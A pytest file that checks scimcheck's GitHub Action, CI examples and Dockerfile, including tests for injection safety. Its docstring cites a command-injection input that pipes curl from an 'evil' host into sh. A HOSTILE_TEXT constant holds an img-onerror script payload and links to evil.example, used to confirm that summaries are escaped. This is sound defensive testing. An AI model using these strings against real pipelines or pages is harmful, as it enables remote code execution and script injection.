"""The GitHub Action, the Dockerfile and the CI examples of docs/ci.md work as far as this
machine allows (issue 16 §3): it has no GitHub runner and no Docker daemon.

- ``action.yml`` and each CI example validate against the published schemas (check-jsonschema's
  vendored copies of SchemaStore's GitHub Action, GitHub workflow and GitLab CI schemas);
- the action's own script runs against the reference server, a correct one and a broken one, and
  leaves the outputs and the job summary a runner would show;
- no input is ever spliced into a script (a `${{ inputs.* }}` in a `run:` is a command
  injection: an input holding `"; curl evil | sh; "` would run);
- the Dockerfile passes hadolint, and its COPY lines are enough to build the wheel it installs.
"""

from __future__ import annotations

import importlib.util
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from scimcheck.core import exitcodes
from scimcheck.server import ReferenceServer
from support.harness import TEST_TOKEN

REPO = Path(__file__).resolve().parents[2]
ACTION = REPO / "action.yml"
DOCKERFILE = REPO / "Dockerfile"
CI_DOC = REPO / "docs" / "ci.md"
BIN = Path(sys.executable).parent


def _tool(name: str) -> str:
    path = BIN / name
    if not path.exists():
        pytest.fail(f"{name} is not installed: pip install -e '.[test]' installs it")
    return str(path)


def _yaml_blocks(markdown: str) -> list[tuple[str, str]]:
    """Each ```yaml block of a page, with its first comment line (which file it is)."""
    blocks = re.findall(r"```yaml\n(.*?)```", markdown, flags=re.DOTALL)
    return [(block.splitlines()[0], block) for block in blocks]


def _validate(schema: str, text: str, tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    done = subprocess.run(
        [_tool("check-jsonschema"), "--builtin-schema", schema, str(path)],
        capture_output=True, text=True, timeout=120, check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr


def test_the_action_is_a_valid_github_action(tmp_path: Path) -> None:
    _validate("vendor.github-actions", ACTION.read_text(encoding="utf-8"), tmp_path, "action.yml")


@pytest.mark.parametrize(
    ("marker", "schema"),
    [(".github/workflows/", "vendor.github-workflows"), (".gitlab-ci.yml", "vendor.gitlab-ci")],
)
def test_the_ci_examples_of_the_docs_are_valid(marker: str, schema: str, tmp_path: Path) -> None:
    blocks = [b for first, b in _yaml_blocks(CI_DOC.read_text(encoding="utf-8")) if marker in first]
    assert blocks, f"docs/ci.md has no {marker} example"
    for number, block in enumerate(blocks):
        _validate(schema, block, tmp_path, f"example{number}.yml")


def test_the_github_example_uses_this_action() -> None:
    blocks = [b for first, b in _yaml_blocks(CI_DOC.read_text(encoding="utf-8"))
              if ".github/workflows/" in first]
    steps = yaml.safe_load(blocks[0])["jobs"]["scimcheck"]["steps"]
    ours = [s for s in steps if str(s.get("uses", "")).endswith("/scimcheck@main")]
    assert len(ours) == 1
    inputs = yaml.safe_load(ACTION.read_text(encoding="utf-8"))["inputs"]
    assert set(ours[0]["with"]) <= set(inputs)
    assert {name for name, spec in inputs.items() if spec.get("required")} <= set(ours[0]["with"])


def _action() -> dict[str, Any]:
    document: dict[str, Any] = yaml.safe_load(ACTION.read_text(encoding="utf-8"))
    return document


def test_no_input_reaches_a_shell_except_through_the_environment() -> None:
    for step in _action()["runs"]["steps"]:
        script = step.get("run", "")
        assert "${{" not in script, f"an expression spliced into step {step.get('name')!r}"


def _run_step() -> dict[str, Any]:
    step: dict[str, Any] = next(s for s in _action()["runs"]["steps"] if s.get("id") == "run")
    return step


def _run_action_script(
    url: str, tmp_path: Path, **inputs: str,
) -> tuple[subprocess.CompletedProcess[str], dict[str, str], str]:
    """The action's "Run scimcheck" step as a runner runs it: its env (inputs substituted, as
    the runner does before the shell starts), GITHUB_OUTPUT and GITHUB_STEP_SUMMARY files."""
    step = _run_step()
    values = {"url": url, "token": TEST_TOKEN, "profile": "entra-app", "dialect": "legacy",
              "seed": "", "baseline": "", "fail-on": "any",
              "report-dir": str(tmp_path / "reports"), **inputs}
    env = {k: v for k, v in os.environ.items() if not k.startswith(("SCIM", "GITHUB_"))}
    for name, expression in step["env"].items():
        found = re.fullmatch(r"\$\{\{ inputs\.([\w-]+) \}\}", expression)
        assert found, f"{name}: {expression}"
        env[name] = values[found.group(1)]
    output, summary = tmp_path / "output", tmp_path / "step-summary"
    env.update(GITHUB_OUTPUT=str(output), GITHUB_STEP_SUMMARY=str(summary),
               SCIM_EXAMPLES="0", PATH=f"{BIN}{os.pathsep}{env.get('PATH', '')}")
    done = subprocess.run(["bash", "-c", step["run"]], env=env, cwd=tmp_path,
                          capture_output=True, text=True, timeout=600, check=False)
    outputs = dict(line.split("=", 1) for line in output.read_text().splitlines())
    return done, outputs, summary.read_text(encoding="utf-8")


def test_the_action_script_reports_a_pass_in_the_job_summary(tmp_path: Path) -> None:
    with ReferenceServer(host="127.0.0.1", port=0, token=TEST_TOKEN) as server:
        done, outputs, summary = _run_action_script(server.base_url, tmp_path)
    assert done.returncode == 0, done.stdout[-2000:] + done.stderr
    assert outputs == {"exit-code": "0", "verdict": "pass"}
    assert summary.startswith("## scimcheck: PASS")
    assert "| ✅ Test Connection |" in summary
    assert (tmp_path / "reports" / "report.html").exists()
    assert TEST_TOKEN not in summary + done.stdout + done.stderr


def test_the_action_script_fails_with_scimchecks_exit_code_and_names_the_finding(
    tmp_path: Path,
) -> None:
    with ReferenceServer(host="127.0.0.1", port=0, token=TEST_TOKEN,
                         variant="string-false-truthy") as server:
        done, outputs, summary = _run_action_script(
            server.base_url, tmp_path, baseline=str(tmp_path / "none.json"), **{"fail-on": "new"}
        )
    # the step itself succeeds; the "Verdict" step exits with exit-code
    assert done.returncode == 0, done.stderr
    assert outputs == {"exit-code": str(exitcodes.CHECKS_FAILED), "verdict": "fail"}
    assert "no baseline results.json yet" in done.stdout  # a first night: every finding counts
    assert "| user.disable.string-false | entra-blocking |" in summary
    verdict = next(s for s in _action()["runs"]["steps"] if s.get("name") == "Verdict")
    ended = subprocess.run(["bash", "-c", verdict["run"]], env={"CODE": outputs["exit-code"]},
                           check=False)
    assert ended.returncode == exitcodes.CHECKS_FAILED


def test_the_dockerfile_passes_hadolint() -> None:
    done = subprocess.run([_tool("hadolint"), str(DOCKERFILE)], capture_output=True,
                          text=True, timeout=120, check=False)
    assert done.returncode == 0, done.stdout + done.stderr


@pytest.mark.slow
def test_what_the_dockerfile_copies_builds_the_wheel_it_installs(tmp_path: Path) -> None:
    """No daemon here to build the image: its build context is what its COPY lines copy, and
    its RUN line installs from it; the same wheel build must succeed from just that."""
    context = tmp_path / "context"
    context.mkdir()
    copies = re.findall(r"^COPY (.+) (\S+)$", DOCKERFILE.read_text(encoding="utf-8"),
                        flags=re.MULTILINE)
    assert copies
    for sources, _destination in copies:
        for source in sources.split():
            origin = REPO / source
            target = context / source
            if origin.is_dir():
                shutil.copytree(origin, target,
                                ignore=shutil.ignore_patterns("__pycache__", "*.pyc"))
            else:
                shutil.copy2(origin, target)
    isolation = [] if importlib.util.find_spec("hatchling") is None else ["--no-isolation"]
    done = subprocess.run(
        [sys.executable, "-m", "build", "--wheel", *isolation, "--outdir",
         str(tmp_path / "dist"), str(context)],
        capture_output=True, text=True, timeout=600, check=False,
    )
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    assert len(list((tmp_path / "dist").glob("scimcheck-*.whl"))) == 1


HOSTILE_TEXT = ('x | y\n\n# Owned <img src=x onerror=alert(1)> [click](https://evil.example/) '
                '![i](http://evil.example/t.png) www.evil.example `code` \x1b[2J **bold**')


def test_the_markdown_summary_keeps_endpoint_text_inert() -> None:
    """Every message in a results.json may be the endpoint's words: in a job summary (Markdown
    with HTML) they must not break the table, open a tag, draw a link or image, or make a
    heading."""
    from scimcheck.report import summary_markdown

    check = {"id": "user.create.status-201", "level": "entra-blocking",
             "capability": "Create user", "outcome": "failed", "fails_run": True,
             "message": HOSTILE_TEXT, "consequence": HOSTILE_TEXT}
    document = {"verdict": "fail", "target": "http://127.0.0.1:1/scim/v2", "profile": "p",
                "dialects": ["legacy"], "version": "0.1.0", "checks": [check]}
    text = summary_markdown.render(document)
    row = next(line for line in text.splitlines() if line.startswith("| user.create"))
    assert row.count(" | ") == 3  # four cells: the message's own pipe is escaped
    assert "\n# Owned" not in text and "<img" not in text and "\x1b" not in text
    assert "](" not in text.replace("\\](", "") and "![" not in text.replace("\\!\\[", "")
    assert "https://" not in text and "www.evil" not in text  # no autolink
    assert "&lt;img src=x onerror=alert\\(1\\)&gt;" in row
